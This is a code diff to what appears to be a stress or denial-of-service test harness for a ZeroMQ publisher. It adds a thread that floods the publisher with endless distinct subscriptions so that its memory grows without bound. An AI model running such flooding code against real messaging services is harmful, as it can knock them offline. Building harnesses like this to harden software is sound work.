@@ -77,9 +77,11 @@ class Attack:
     def __init__(self, port: int):
         self.port = port
         self.stop = threading.Event()
-        self.done = {"giant_frames": 0, "huge_subscriptions": 0, "empty_subscriptions": 0, "connect_drop": 0}
+        self.done = {"giant_frames": 0, "huge_subscriptions": 0, "empty_subscriptions": 0,
+                     "distinct_subscriptions": 0, "connect_drop": 0}
         self.threads = [threading.Thread(target=f, daemon=True)
-                        for f in (self._giant_frames, self._huge_subscriptions, self._flood, self._connect_drop)]
+                        for f in (self._giant_frames, self._huge_subscriptions, self._flood, self._distinct,
+                                  self._connect_drop)]
 
     def start(self) -> None:
         for th in self.threads:
@@ -127,6 +129,23 @@ class Attack:
             while not self.stop.is_set() and zmtp.send_quietly(s, burst):
                 self.done["empty_subscriptions"] += 100
                 self.stop.wait(0.02)
+            s.close()
+
+    def _distinct(self) -> None:
+        """Distinct 200-byte subscriptions as fast as the publisher takes them: each one a new branch of the
+        peer's subscription trie (a GB in seconds, unbounded)."""
+        n = 0
+        while not self.stop.is_set():
+            try:
+                s = zmtp.null_sub(self.port)
+            except OSError:
+                continue
+            while not self.stop.is_set():
+                burst = b"".join(zmtp.subscription(b"%08x" % (n + i) * 25) for i in range(100))
+                if not zmtp.send_quietly(s, burst):
+                    break
+                n += 100
+                self.done["distinct_subscriptions"] += 100
             s.close()
 
     def _connect_drop(self) -> None:
